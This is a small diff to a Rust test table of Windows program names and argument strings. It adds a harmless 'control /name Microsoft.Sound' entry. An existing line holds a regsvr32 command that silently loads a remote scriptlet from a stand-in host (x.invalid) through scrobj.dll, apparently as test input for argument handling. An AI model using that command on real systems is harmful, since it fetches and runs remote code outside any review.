@@ -246,6 +246,7 @@ fn plain_arguments_stay() {
         ),
         ("regsvr32", "/s /i:\"http://x.invalid/a.sct\" scrobj.dll"),
         ("excel", "[Book1.xlsx]Sheet1"),
+        ("control", "/name Microsoft.Sound"),
         ("net", "use \\\\h\\s"),
         ("sc", "query"),
         ("msiexec", ""),
